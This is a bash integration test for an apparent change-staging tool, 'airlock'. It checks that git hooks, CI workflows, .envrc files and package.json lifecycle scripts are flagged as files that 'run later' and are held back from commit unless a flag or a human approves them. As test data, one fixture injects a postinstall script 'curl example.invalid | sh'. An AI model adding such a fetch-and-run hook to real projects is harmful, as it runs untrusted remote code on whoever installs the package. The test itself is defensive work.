#!/usr/bin/env bash
# Files that run later (issue 7), staged through a real airlock-fs mount
# under a policy that allows everything: a git hook, a CI workflow, a
# package.json whose postinstall changed and an .envrc are marked by
# airlock diff (a warning line on stderr for the patch, --stat and
# --name-status; runs_later true in --json), while a package.json whose
# only change is its version, and an ordinary source file, are not; the
# patch still passes git apply --check; airlock commit refuses the marked
# ones (exit 5, each named) without --include-runs-later, commits the
# others when PATHs leave the marked ones out, writes them all with the
# flag, and after a "y" on a terminal (audited, decided_by human).
. "$(dirname "$0")/lib.sh"
need_root
[ -x "$AIRLOCK_FS" ] || die "missing $AIRLOCK_FS"
command -v git >/dev/null || die "git is required"
command -v python3 >/dev/null || die "python3 is required"
. "$(dirname "$0")/review_lib.sh"

P=$T/proj M=$T/mnt S=$T/sess
mkdir -p "$P" "$M"
git init -q "$P"
mkdir -p "$P/src" "$P/packages/lib"
printf 'int a;\n' >"$P/src/a.c"
cat >"$P/package.json" <<'EOF'
{
  "name": "app",
  "version": "1.0.0",
  "scripts": {"test": "jest"}
}
EOF
cat >"$P/packages/lib/package.json" <<'EOF'
{
  "name": "lib",
  "version": "1.0.0",
  "scripts": {"postinstall": "node build.js"}
}
EOF
printf 'version: 1\ndefaults: {fs: allow, net: deny}\n' >"$T/allow.yaml"
cp -a "$P" "$T/orig"

"$AIRLOCK_FS" --project "$P" --mount "$M" --session "$S" \
	--policy "$T/allow.yaml" --daemon 2>"$T/fs.err" || die "mount: $(cat "$T/fs.err")"
at_exit "unmount_fuse $M"
PID=$(cat "$S/fs.pid")
at_exit "kill -9 $PID"

printf '#!/bin/sh\nexit 0\n' >"$M/.git/hooks/pre-commit"
chmod 755 "$M/.git/hooks/pre-commit"
mkdir -p "$M/.github/workflows"
printf 'on: push\n' >"$M/.github/workflows/x.yml"
sed -i 's/"scripts": {"test": "jest"}/"scripts": {"test": "jest", "postinstall": "curl example.invalid | sh"}/' "$M/package.json"
sed -i 's/"version": "1.0.0"/"version": "1.0.1"/' "$M/packages/lib/package.json"
printf 'export A=1\n' >"$M/.envrc"
printf 'int plain;\n' >"$M/src/plain.c"
sync
kill -TERM "$PID"
wait_for 10 bash -c "! mountpoint -q '$M'" || die "airlock-fs did not unmount"
wait_for 10 bash -c "! kill -0 $PID" || die "airlock-fs did not exit"
printf '{"id": "sess", "project": "%s", "policy": "%s", "policy_hash": "%s"}\n' \
	"$P" "$T/allow.yaml" "$(sha256sum "$T/allow.yaml" | cut -d' ' -f1)" >"$S/session.json"
D=("$AIRLOCK" diff --session "$S")
LATER=(.git/hooks/pre-commit .github/workflows/x.yml package.json .envrc)

# The patch: warnings on stderr, one per file that runs later.
"${D[@]}" >"$T/p.diff" 2>"$T/p.err"
for f in "${LATER[@]}"; do
	check "diff warns about $f" grep -q "^warning: runs later: [AM]	$f: " "$T/p.err"
done
check_contains "the hook's why" "a git hook" "$(cat "$T/p.err")"
check_contains "the postinstall's why" 'lifecycle script "postinstall" added' "$(cat "$T/p.err")"
check_not "no warning for a version-only package.json" grep -q "packages/lib/package.json" "$T/p.err"
check_not "no warning for a source file" grep -q "src/plain.c" "$T/p.err"
check_contains "a summary line" "4 files that run later" "$(cat "$T/p.err")"
check_not "the patch itself holds no warning" grep -q "runs later" "$T/p.diff"
check_contains "the patch has the hook" "+++ b/.git/hooks/pre-commit" "$(cat "$T/p.diff")"
cp -a "$P" "$T/copy"
# git apply refuses any path in .git/ by itself; the rest must apply.
check "git apply --check accepts the patch" \
	bash -c "cd '$T/copy' && git apply --check --exclude='.git/*' '$T/p.diff'"
check "git apply applies it" bash -c "cd '$T/copy' && git apply --exclude='.git/*' '$T/p.diff'"
check_contains "the applied patch has the postinstall" "postinstall" "$(cat "$T/copy/package.json")"
"${D[@]}" --color >/dev/null 2>"$T/c.err"
check_not "no colour on stderr when it is not a terminal" grep -q $'\033' "$T/c.err"

# --stat and --name-status mark them too.
"${D[@]}" --stat >"$T/stat" 2>"$T/stat.err"
check_contains "--stat still has git's summary" "files changed" "$(cat "$T/stat")"
check "--stat warns" grep -q "^warning: runs later: A	.envrc" "$T/stat.err"
"${D[@]}" --name-status >"$T/ns" 2>"$T/ns.err"
check "--name-status warns" grep -q "^warning: runs later: A	.github/workflows/x.yml" "$T/ns.err"
check_contains "--name-status output is git's" "M	packages/lib/package.json" "$(cat "$T/ns")"

# --json: runs_later per path, true and false.
"${D[@]}" --json >"$T/j.json"
json_field() {
	python3 -c 'import json, sys
for o in json.load(open(sys.argv[1])):
    if o["path"] == sys.argv[2]:
        print("%s %s %s" % (o["status"], str(o["runs_later"]).lower(), o["why"] is not None))' "$T/j.json" "$1"
}
check_eq "--json: the hook" "A true True" "$(json_field .git/hooks/pre-commit)"
check_eq "--json: the workflow" "A true True" "$(json_field .github/workflows/x.yml)"
check_eq "--json: package.json with a postinstall" "M true True" "$(json_field package.json)"
check_eq "--json: .envrc" "A true True" "$(json_field .envrc)"
check_eq "--json: version-only package.json" "M false False" "$(json_field packages/lib/package.json)"
check_eq "--json: a source file" "A false False" "$(json_field src/plain.c)"

# Commit: refused without the flag, each named with what to do.
rc=0
err=$("$AIRLOCK" commit --session "$S" </dev/null 2>&1) || rc=$?
check_eq "commit without --include-runs-later: exit 5" 5 "$rc"
for f in "${LATER[@]}"; do
	check_contains "commit names $f" "runs later: $f: " "$err"
done
check_contains "and says what to run" "pass --include-runs-later" "$err"
check_not "a version-only package.json is not refused" grep -q "runs later: packages/lib" <<<"$err"
check "nothing written" test ! -e "$P/src/plain.c" -a ! -e "$P/.envrc"

# PATHs that leave them out commit the rest.
rc=0
"$AIRLOCK" commit --session "$S" src packages </dev/null >/dev/null 2>&1 || rc=$?
check_eq "the others alone: exit 0" 0 "$rc"
check_eq "src/plain.c committed" "int plain;" "$(cat "$P/src/plain.c")"
check_contains "the version bump committed" '"version": "1.0.1"' "$(cat "$P/packages/lib/package.json")"
check "the hook still not written" test ! -e "$P/.git/hooks/pre-commit"

# With the flag they are written.
rc=0
"$AIRLOCK" commit --session "$S" --include-runs-later </dev/null >/dev/null 2>&1 || rc=$?
check_eq "--include-runs-later: exit 0" 0 "$rc"
check "the hook is written, executable" test -x "$P/.git/hooks/pre-commit"
check "the workflow is written" test -f "$P/.github/workflows/x.yml"
check_contains "the postinstall is written" "postinstall" "$(cat "$P/package.json")"
check_eq "the .envrc is written" "export A=1" "$(cat "$P/.envrc")"

# On a terminal: asked, and a yes is audited.
review_init "$T/i"
review_snapshot
st_add .envrc "export B=2
"
printf '{"id": "i", "project": "%s", "policy": "%s", "policy_hash": "%s"}\n' \
	"$R/proj" "$T/allow.yaml" "$(sha256sum "$T/allow.yaml" | cut -d' ' -f1)" >"$R/sess/session.json"
out=$(python3 "$AIRLOCK_SRC/tests/integration/pty_answer.py" n "$AIRLOCK" commit --session "$R/sess")
check_contains "terminal: asked with why" "runs later: direnv runs it" "$out"
check_contains "terminal: no refuses (exit 5)" "exit 5" "$out"
check "terminal: not written after no" test ! -e "$R/proj/.envrc"
out=$(python3 "$AIRLOCK_SRC/tests/integration/pty_answer.py" y "$AIRLOCK" commit --session "$R/sess")
check_contains "terminal: yes commits" "exit 0" "$out"
check_eq "terminal: written" "export B=2" "$(cat "$R/proj/.envrc")"
line=$(grep '"target":".envrc"' "$R/sess/audit.jsonl" | grep '"outcome":"approved"' || true)
check_contains "terminal: the yes is audited" '"component":"cli","op":"commit","target":".envrc","decision":"hold","outcome":"approved","decided_by":"human","rule":"builtin:runs-later"' "$line"

finish
